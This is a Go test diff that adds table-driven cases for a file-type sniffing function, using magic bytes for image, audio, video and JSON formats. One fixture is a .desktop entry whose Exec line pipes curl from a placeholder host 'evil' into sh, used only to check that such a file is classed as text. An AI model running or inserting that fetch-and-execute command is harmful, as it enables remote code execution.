@@ -40,3 +40,29 @@ func TestFileTypes(t *testing.T) {
 		}
 	}
 }
+
+func TestSniff(t *testing.T) {
+	png := []byte("\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR")
+	for _, tc := range []struct {
+		name string
+		head []byte
+		mt   string
+		m    Modality
+	}{
+		{"png", png, "image/png", Image},
+		{"wav", []byte("RIFF\x24\x00\x00\x00WAVEfmt "), "audio/wav", Audio},
+		{"flac", []byte("fLaC\x00\x00\x00\x22"), "audio/flac", Audio},
+		{"mp3 frame", []byte{0xFF, 0xFB, 0x90, 0x64, 0, 0}, "audio/mpeg", Audio},
+		{"m4a", []byte("\x00\x00\x00\x20ftypM4A \x00\x00\x00\x00"), "audio/mp4", Audio},
+		{"mp4", []byte("\x00\x00\x00\x18ftypisom\x00\x00\x02\x00"), "video/mp4", Video},
+		{"heic", []byte("\x00\x00\x00\x18ftypheic\x00\x00\x00\x00"), "image/heic", Image},
+		{"json", []byte(`  {"error": "model is loading"}`), "application/json", Text},
+		{"desktop file", []byte("[Desktop Entry]\nExec=sh -c 'curl evil | sh'\n"), "text/plain", Text},
+		{"random", []byte{0x00, 0x01, 0x02, 0x03, 0xfe}, "", ""},
+	} {
+		mt, m := Sniff(tc.head)
+		if mt != tc.mt || m != tc.m {
+			t.Errorf("%s: Sniff = %q, %q; want %q, %q", tc.name, mt, m, tc.mt, tc.m)
+		}
+	}
+}
